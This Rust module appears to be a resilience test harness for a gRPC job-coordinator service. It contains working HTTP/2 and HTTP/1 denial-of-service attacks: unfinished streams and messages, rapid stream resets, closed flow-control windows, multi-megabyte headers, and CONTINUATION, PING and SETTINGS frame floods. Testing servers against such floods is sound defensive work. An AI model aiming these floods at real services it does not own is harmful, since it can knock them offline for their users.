//! Attacks with hand-made HTTP/1 and HTTP/2 that no client library would send.

use std::future::poll_fn;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use h2::{Reason, SendStream};
use http::{HeaderMap, HeaderValue, Request};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{Aim, PREFACE};

/// Timeout for the coordinator to end a connection.
const LONG: Duration = Duration::from_secs(60);
const SUBMIT: &str = "/foil.v1.Jobs/Submit";
const PUT: &str = "/foil.v1.Artifacts/Put";
const AGENT: &str = "/foil.v1.Workers/Agent";

/// An HTTP/2 connection, closed on drop.
struct Connection {
    client: SendRequest<Bytes>,
    _driver: JoinSet<()>,
}

impl Connection {
    async fn open(aim: &Aim) -> Option<Self> {
        let socket = TcpStream::connect(aim.address()).await.ok()?;
        let (client, connection) = h2::client::handshake(socket).await.ok()?;
        let mut driver = JoinSet::new();
        driver.spawn(async move {
            // It ends when the coordinator closes it.
            let _ = connection.await;
        });
        Some(Self { client, _driver: driver })
    }

    /// Begins a call whose request never ends.
    async fn begin(
        &mut self,
        aim: &Aim,
        path: &str,
    ) -> Option<(h2::client::ResponseFuture, SendStream<Bytes>)> {
        self.call(aim, path, &HeaderMap::new()).await
    }

    async fn call(
        &mut self,
        aim: &Aim,
        path: &str,
        more: &HeaderMap,
    ) -> Option<(h2::client::ResponseFuture, SendStream<Bytes>)> {
        let mut request = Request::post(format!("{}{path}", aim.url))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .ok()?;
        request.headers_mut().extend(more.clone());
        poll_fn(|context| self.client.poll_ready(context)).await.ok()?;
        self.client.send_request(request, false).ok()
    }
}

/// Sends bytes as fast as flow control allows.
async fn push(stream: &mut SendStream<Bytes>, mut data: Bytes) -> Option<()> {
    while !data.is_empty() {
        stream.reserve_capacity(data.len());
        let free = poll_fn(|context| stream.poll_capacity(context)).await?.ok()?;
        stream.send_data(data.split_to(free.min(data.len())), false).ok()?;
    }
    Some(())
}

/// The start of a message that claims to be longer than it is.
fn begun_message(claimed: u32, sent: usize) -> Bytes {
    let mut bytes = vec![0];
    bytes.extend_from_slice(&claimed.to_be_bytes());
    bytes.resize(5 + sent, 0);
    Bytes::from(bytes)
}

/// Opens as many calls as a connection allows, and sends each a message that is nearly complete and never
/// finished.
pub(super) async fn messages_never_ended(aim: Aim) {
    let Some(mut connection) = Connection::open(&aim).await else { return };
    let data = begun_message(1_000_000, 990_000);
    let mut streams = Vec::new();
    for call in 0..128 {
        let path = [SUBMIT, PUT, AGENT][call % 3];
        let Some((response, mut stream)) = connection.begin(&aim, path).await else { break };
        let pushed = tokio::time::timeout(Duration::from_secs(1), push(&mut stream, data.clone())).await;
        streams.push((response, stream));
        if pushed.is_err() {
            break;
        }
    }
    sleep(LONG).await;
    drop(streams);
}

/// Opens and abandons as many calls as a connection allows.
pub(super) async fn calls_never_begun(aim: Aim) {
    let Some(mut connection) = Connection::open(&aim).await else { return };
    let mut streams = Vec::new();
    for call in 0..128 {
        let path = [SUBMIT, PUT, AGENT, "/foil.v1.Workers/Rank", "/foil.v1.Jobs/List"][call % 5];
        match tokio::time::timeout(Duration::from_secs(1), connection.begin(&aim, path)).await {
            Ok(Some(stream)) => streams.push(stream),
            Ok(None) | Err(_) => break,
        }
    }
    sleep(LONG).await;
    drop(streams);
}

/// Opens calls and resets them immediately, repeatedly.
pub(super) async fn resets(aim: Aim) {
    let Some(mut connection) = Connection::open(&aim).await else { return };
    loop {
        let Some((_, mut stream)) = connection.begin(&aim, "/foil.v1.Jobs/List").await else { return };
        stream.send_reset(Reason::CANCEL);
        tokio::task::yield_now().await;
    }
}

/// Requests responses on a connection whose flow-control windows stay closed.
pub(super) async fn closed_windows(aim: Aim) {
    let Some(mut connection) = Connection::open(&aim).await else { return };
    let (mut get, mut watch, mut list) = (Vec::new(), Vec::new(), Vec::new());
    for _ in 0..20 {
        let key = aim.object.key.as_bytes();
        get.clear();
        get.extend([0x0a, u8::try_from(key.len()).unwrap_or(u8::MAX)]);
        get.extend_from_slice(key);
        watch.clear();
        watch.extend([0x0a, u8::try_from(aim.job.len()).unwrap_or(u8::MAX)]);
        watch.extend_from_slice(aim.job.as_bytes());
        for (path, message) in [
            ("/foil.v1.Artifacts/Get", &get),
            ("/foil.v1.Jobs/Watch", &watch),
            ("/foil.v1.Jobs/List", &Vec::new()),
        ] {
            let Some((response, mut stream)) = connection.begin(&aim, path).await else { break };
            let mut data = begun_message(u32::try_from(message.len()).unwrap_or_default(), 0).to_vec();
            data.extend_from_slice(message);
            let _ = stream.send_data(data.into(), true);
            list.push(response);
        }
    }
    let mut unread = Vec::new();
    for response in list {
        if let Ok(response) = response.await {
            unread.push(response);
        }
    }
    sleep(LONG).await;
    drop(unread);
}

/// Sends headers and trailers of megabytes over HTTP/2 and HTTP/1.
pub(super) async fn large_headers(aim: Aim) {
    let mut large = HeaderMap::new();
    for number in 0..100 {
        let name = http::HeaderName::try_from(format!("x-{number}")).expect("a header's name");
        large.insert(name, HeaderValue::try_from("x".repeat(8000)).expect("a header's value"));
    }
    if let Some(mut connection) = Connection::open(&aim).await {
        let _ = connection.call(&aim, "/foil.v1.Jobs/List", &large).await;
        if let Some((response, mut stream)) = connection.begin(&aim, SUBMIT).await {
            let _ = stream.send_data(begun_message(0, 0), false);
            let _ = stream.send_trailers(large);
            let _ = tokio::time::timeout(Duration::from_secs(1), response).await;
        }
    }
    let line = [b"GET / HTTP/1.1\r\nx-long: ".as_slice(), &vec![b'x'; 4 << 20]].concat();
    let many = format!("GET / HTTP/1.1\r\n{}", "x: y\r\n".repeat(500_000));
    for request in [line, many.into_bytes()] {
        if let Ok(mut socket) = TcpStream::connect(aim.address()).await {
            let _ = socket.write_all(&request).await;
        }
    }
}

/// Sends a header block that never ends, pings, settings, and frames of unknown kinds.
pub(super) async fn frame_floods(aim: Aim) {
    const HEADERS: u8 = 1;
    const SETTINGS: u8 = 4;
    const PING: u8 = 6;
    const CONTINUATION: u8 = 9;
    // A literal header a: b, repeated.
    let block = [0, 1, b'a', 1, b'b'].repeat(3000);
    let floods = [
        (frame(HEADERS, 1, &block), frame(CONTINUATION, 1, &block)),
        (Vec::new(), frame(PING, 0, &[0; 8])),
        (Vec::new(), frame(SETTINGS, 0, &[0, 3, 0, 0, 0, 100])),
        (Vec::new(), frame(0x77, 0, &[0; 1000])),
    ];
    for (first, again) in floods {
        let Ok(mut socket) = TcpStream::connect(aim.address()).await else { continue };
        let flood = again.repeat((1 << 20) / again.len());
        let sent = async {
            socket.write_all(PREFACE).await?;
            socket.write_all(&first).await?;
            for _ in 0..16 {
                socket.write_all(&flood).await?;
            }
            Ok::<_, std::io::Error>(())
        };
        // The replies are not read.
        let _ = tokio::time::timeout(Duration::from_secs(2), sent).await;
    }
}

fn frame(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, 0];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
